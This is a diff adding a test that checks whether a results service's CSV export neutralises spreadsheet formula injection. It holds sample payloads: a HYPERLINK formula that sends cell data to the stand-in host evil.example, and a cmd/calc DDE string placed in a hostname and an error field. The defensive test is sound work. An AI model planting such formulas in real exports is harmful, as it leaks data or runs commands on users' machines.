@@ -110,6 +110,29 @@ def test_results_export_as_csv(api: Api) -> None:
     assert rows[0]["device_kind"] == "cuda" and float(rows[0]["latency_p99_ms"]) > 0
 
 
+def test_csv_export_neutralises_spreadsheet_formulas(api: Api) -> None:
+    """OWASP CSV injection: a machine names itself; a spreadsheet must show the name, not run it."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    spec = machine_spec(hostname=formula)
+    _machine_id, token = api.enroll(spec)
+    failed = [
+        result(batch_size=b, status="error", reason=reason, throughput_samples_per_s=None, latency_p50_ms=None)
+        for b, reason in ((2, "@SUM(1+1)*cmd|' /C calc'!A0"), (4, "+1+1"), (8, "-2+3"), (16, "\t=1"), (32, "\r=1"))
+    ]
+    api.post_run(token, run_report(spec, results=[result(batch_size=1), *failed]))
+    response = api.client.get("/api/v1/results/export.csv", headers=api.admin)
+    rows = {int(r["batch_size"]): r for r in csv.DictReader(io.StringIO(response.text))}
+    assert {r["hostname"] for r in rows.values()} == {"'" + formula}
+    assert [rows[b]["reason"] for b in (2, 4, 8, 16, 32)] == [
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1+1",
+        "'-2+3",
+        "'\t=1",
+        "'\r=1",
+    ]
+    assert float(rows[1]["latency_p99_ms"]) == 29.6 and rows[1]["reason"] == ""  # numbers stay numbers
+
+
 def test_machines_list_and_detail_carry_the_spec(api: Api) -> None:
     a, _b = _seed(api)
     listing = api.client.get("/api/v1/machines", headers=api.admin).json()
